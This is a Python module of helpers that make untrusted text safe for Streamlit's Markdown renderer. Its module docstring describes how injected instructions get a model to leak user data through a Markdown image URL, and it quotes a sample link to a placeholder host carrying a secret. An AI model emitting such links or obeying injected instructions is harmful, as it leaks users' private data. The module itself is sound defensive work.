"""Text from people, documents and models, made safe to hand to Streamlit's Markdown renderer.

Streamlit renders Markdown in chat messages, captions, alerts and in the labels of buttons,
expanders and progress bars. A Markdown image (``![x](http://host/?q=secret)``) in any of them
makes the browser fetch its URL: the classic way a document with injected instructions gets a
model to leak the user's data. Two helpers:

- ``inert_markdown`` keeps a message's formatting (bold, lists, tables, code, links) but turns
  every image and every raw-HTML tag into visible text, and shows a lone ``$`` as a dollar sign
  (Streamlit reads ``$...$`` as LaTeX: "$7,192 million and $8,288 million" would become a formula)
  and a line break as a line break.
- ``escape_markdown`` shows a short string (a file name, a chat title) exactly as it is.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

_MARKDOWN_PUNCTUATION = set("\\`*_{}[]()<>#+-.!|~$:=")
_BLOCK_PARSER = MarkdownIt("commonmark")
_BACKTICKS = re.compile(r"`+")


def escape_markdown(text: str) -> str:
    """``text`` shown literally wherever Streamlit renders Markdown (labels, captions, alerts)."""
    flat = " ".join(str(text).split())
    return "".join(f"\\{ch}" if ch in _MARKDOWN_PUNCTUATION else ch for ch in flat)


def inert_markdown(text: str) -> str:
    """``text`` as Markdown that cannot load anything: no images and no raw HTML.

    ``![`` becomes ``!\\[`` (shown as typed, so no image and no reference image) everywhere
    except inside code blocks, where Markdown renders nothing anyway. ``<`` becomes ``\\<``
    outside code, so no HTML tag or autolink is formed; inside inline code it is left alone
    (code is shown verbatim), but ``![`` is still escaped there, because a misjudged code span
    must never leave an image behind.
    """
    lines = text.split("\n")
    in_block = _code_block_lines(text)
    out: list[str] = []
    paragraph: list[str] = []
    for number, line in enumerate(lines):
        if number in in_block:
            if paragraph:
                out.append(_escape_inline("\n".join(paragraph)))
                paragraph = []
            out.append(line)
        else:
            paragraph.append(line)
    if paragraph:
        out.append(_escape_inline("\n".join(paragraph)))
    return "\n".join(out)


def _code_block_lines(text: str) -> set[int]:
    """Line numbers (0-based) inside fenced or indented code blocks, as CommonMark parses them.

    The fence lines themselves count as code: they hold no image or tag to escape, and
    escaping them would break the fence.
    """
    lines: set[int] = set()
    for token in _BLOCK_PARSER.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            start, end = token.map
            lines.update(range(start, end))
    return lines


def _escape_inline(text: str) -> str:
    """Escape images everywhere and ``<`` outside inline code spans in non-code text.

    Code spans are recognised within one line only (a span across lines, or across a blank line
    that ends the paragraph, is treated as prose): a misjudged span could otherwise leave a tag
    unescaped. The cost is a visible backslash before ``<`` in the rare multi-line code span.
    """
    lines = [_escape_line(line) for line in text.split("\n")]
    return "\n".join(_hard_break(line, nxt) for line, nxt in zip(lines, [*lines[1:], ""], strict=True))


def _hard_break(line: str, next_line: str) -> str:
    """``line`` ending in a hard break when the next line goes on the same paragraph: a reply's
    line breaks ("[1] "Revenue 7,192"" then "[2] "Revenue 2,036"") stay visible, as in a chat,
    instead of CommonMark joining the lines into one."""
    if not line.strip() or not next_line.strip() or line.endswith(("  ", "\\")):
        return line
    return line + "  "


def _escape_line(text: str) -> str:
    parts: list[str] = []
    pos = 0
    while pos < len(text):
        match = _BACKTICKS.search(text, pos)
        if match is None:
            parts.append(_escape_prose(text[pos:]))
            break
        parts.append(_escape_prose(text[pos : match.start()]))
        ticks = match.group()
        if _escaped(text, match.start()):  # "\`" is a literal backtick, not a code span
            parts.append("`")
            pos = match.start() + 1
            continue
        close = _closing_run(text, match.end(), len(ticks))
        if close is None:  # no closing run: the backticks are literal text
            parts.append(ticks)
            pos = match.end()
            continue
        parts.append(ticks + text[match.end() : close].replace("![", "!\\[") + ticks)
        pos = close + len(ticks)
    return "".join(parts)


def _closing_run(text: str, start: int, length: int) -> int | None:
    """Where the backtick run of exactly ``length`` that closes a code span begins."""
    for match in _BACKTICKS.finditer(text, start):
        if len(match.group()) == length:
            return match.start()
    return None


def _escaped(text: str, index: int) -> bool:
    """Whether the character at ``index`` follows an odd number of backslashes."""
    start = index
    while start > 0 and text[start - 1] == "\\":
        start -= 1
    return (index - start) % 2 == 1


def _escape_prose(text: str) -> str:
    """``<`` escaped (unless a backslash already escapes it), so it is never a tag; ``![`` escaped;
    a lone ``$`` escaped, so amounts are not read as inline math (``$$...$$`` display math stays)."""
    out = []
    for index, char in enumerate(text):
        if char == "<" and not _escaped(text, index):
            out.append("\\")
        elif char == "$" and not _escaped(text, index) and _lone(text, index):
            out.append("\\")
        out.append(char)
    return "".join(out).replace("![", "!\\[")


def _lone(text: str, index: int) -> bool:
    """Whether the character at ``index`` has no ``$`` on either side (so it is not ``$$``)."""
    return "$" not in text[max(0, index - 1) : index] + text[index + 1 : index + 2]
